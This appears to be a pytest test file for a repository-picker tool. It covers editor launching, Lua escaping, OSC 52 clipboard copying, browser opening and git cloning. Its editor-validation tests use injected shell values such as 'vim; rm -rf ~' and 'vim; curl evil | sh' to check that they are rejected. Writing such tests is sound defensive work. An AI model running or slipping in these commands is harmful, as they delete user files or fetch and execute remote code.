"""
Tests for repository actions.

Modified: 2025-11-20
"""

import base64
import io
import subprocess
from unittest.mock import Mock, patch
import pytest

from fuzzyrepo.core.actions import (
    clone_repo,
    copy_to_clipboard,
    ensure_local,
    escape_lua_string,
    is_valid_editor,
    open_in_browser,
    open_in_editor,
    open_pull_requests,
    osc52_sequence,
)
from fuzzyrepo.core.exceptions import (
    ActionError,
    AlreadyExistsError,
    CloneFailedError,
    InvalidEditorError,
    NoEditorError,
)

from tests.utils import create_test_repo


@pytest.fixture
def run():
    with patch("fuzzyrepo.core.actions.subprocess.run") as mock_run:
        mock_run.return_value = subprocess.CompletedProcess(args=[], returncode=0)
        yield mock_run


class TestEditorValidation:
    """Test $EDITOR checks."""

    @pytest.mark.parametrize("editor", ["vim", "nvim", "/usr/local/bin/hx", "code-insiders"])
    def test_valid(self, editor):
        assert is_valid_editor(editor)

    @pytest.mark.parametrize("editor", ["", "-c", "vim; rm -rf ~", "vim && x", "$(evil)", "`x`", "a|b", "a>b"])
    def test_invalid(self, editor):
        assert not is_valid_editor(editor)


class TestOpenInEditor:
    """Test launching the editor."""

    def test_runs_editor_in_repo(self, run, monkeypatch, tmp_path):
        monkeypatch.setenv("EDITOR", "vim")

        open_in_editor(str(tmp_path))

        args, kwargs = run.call_args
        assert args[0] == ["vim", str(tmp_path)]
        assert kwargs["cwd"] == str(tmp_path)
        assert kwargs["env"]["FUZZYREPO"] == "1"

    def test_no_editor(self, run, monkeypatch):
        monkeypatch.delenv("EDITOR", raising=False)
        with pytest.raises(NoEditorError):
            open_in_editor("/src/x")
        run.assert_not_called()

    def test_invalid_editor(self, run, monkeypatch):
        monkeypatch.setenv("EDITOR", "vim; curl evil | sh")
        with pytest.raises(InvalidEditorError):
            open_in_editor("/src/x")
        run.assert_not_called()

    def test_editor_fails(self, run, monkeypatch):
        monkeypatch.setenv("EDITOR", "vim")
        run.return_value = subprocess.CompletedProcess(args=[], returncode=2)
        with pytest.raises(ActionError):
            open_in_editor("/src/x")

    def test_editor_missing(self, run, monkeypatch):
        monkeypatch.setenv("EDITOR", "no-such-editor")
        run.side_effect = FileNotFoundError("no-such-editor")
        with pytest.raises(ActionError):
            open_in_editor("/src/x")

    def test_nvim_remote(self, run, monkeypatch):
        """Inside a Neovim terminal the parent instance opens the repo."""
        monkeypatch.setenv("NVIM", "/tmp/nvim.sock")
        monkeypatch.delenv("EDITOR", raising=False)

        open_in_editor('/src/we"ird')

        command = run.call_args.args[0]
        assert command[:4] == ["nvim", "--server", "/tmp/nvim.sock", "--remote-send"]
        assert 'open_repo("/src/we\\"ird")' in command[4]
        assert command[4].startswith("<C-\\><C-n>")
        assert command[4].endswith("<CR>")


class TestEscapeLuaString:
    """Test Lua string escaping."""

    def test_escapes(self):
        assert escape_lua_string('a"b') == 'a\\"b'
        assert escape_lua_string("a\\b") == "a\\\\b"
        assert escape_lua_string("a\nb") == "a\\nb"
        assert escape_lua_string("/plain/path") == "/plain/path"


class TestClipboard:
    """Test OSC 52 copy."""

    def test_sequence(self):
        seq = osc52_sequence("/src/tool")
        assert seq.startswith("\033]52;c;")
        assert seq.endswith("\a")
        payload = seq[len("\033]52;c;"):-1]
        assert base64.b64decode(payload).decode() == "/src/tool"

    def test_writes_to_stream(self):
        stream = io.StringIO()
        copy_to_clipboard("/src/tool", stream=stream)
        assert stream.getvalue() == osc52_sequence("/src/tool")


class TestBrowser:
    """Test browser actions."""

    def test_open_repo_page(self):
        with patch("fuzzyrepo.core.actions.webbrowser.open", return_value=True) as mock_open:
            open_in_browser(create_test_repo("alice/tool"))
        mock_open.assert_called_once_with("https://github.com/alice/tool")

    def test_open_pull_requests(self):
        with patch("fuzzyrepo.core.actions.webbrowser.open", return_value=True) as mock_open:
            open_pull_requests(create_test_repo("alice/tool"))
        mock_open.assert_called_once_with("https://github.com/alice/tool/pulls")

    def test_no_browser(self):
        with patch("fuzzyrepo.core.actions.webbrowser.open", return_value=False):
            with pytest.raises(ActionError):
                open_in_browser(create_test_repo("alice/tool"))


class TestClone:
    """Test cloning."""

    def test_clones_into_clone_root(self, run, settings, tmp_path):
        repo = create_test_repo("alice/tool")

        path = clone_repo(repo, settings)

        assert path == str(tmp_path / "clones" / "tool")
        assert (tmp_path / "clones").is_dir()
        run.assert_called_once_with(["git", "clone", "git@github.com:alice/tool.git", path])

    def test_derives_ssh_url(self, run, settings):
        clone_repo(create_test_repo("alice/tool", ssh_url=""), settings)
        assert run.call_args.args[0][2] == "git@github.com:alice/tool.git"

    def test_already_local(self, run, settings):
        repo = create_test_repo("alice/tool", exists_local=True, local_path="/src/tool")
        with pytest.raises(AlreadyExistsError) as exc_info:
            clone_repo(repo, settings)
        assert exc_info.value.path == "/src/tool"
        run.assert_not_called()

    def test_destination_exists(self, run, settings, tmp_path):
        (tmp_path / "clones" / "tool").mkdir(parents=True)
        with pytest.raises(AlreadyExistsError):
            clone_repo(create_test_repo("alice/tool"), settings)
        run.assert_not_called()

    def test_git_fails(self, run, settings):
        run.return_value = subprocess.CompletedProcess(args=[], returncode=128)
        with pytest.raises(CloneFailedError):
            clone_repo(create_test_repo("alice/tool"), settings)

    def test_git_missing(self, run, settings):
        run.side_effect = FileNotFoundError("git")
        with pytest.raises(CloneFailedError):
            clone_repo(create_test_repo("alice/tool"), settings)


class TestEnsureLocal:
    """Test clone-if-needed."""

    def test_local_repo_not_cloned(self, run, settings):
        repo = create_test_repo("alice/tool", exists_local=True, local_path="/src/tool")
        assert ensure_local(repo, settings) == "/src/tool"
        run.assert_not_called()

    def test_remote_repo_cloned(self, run, settings, tmp_path):
        assert ensure_local(create_test_repo("alice/tool"), settings) == str(tmp_path / "clones" / "tool")
        run.assert_called_once()
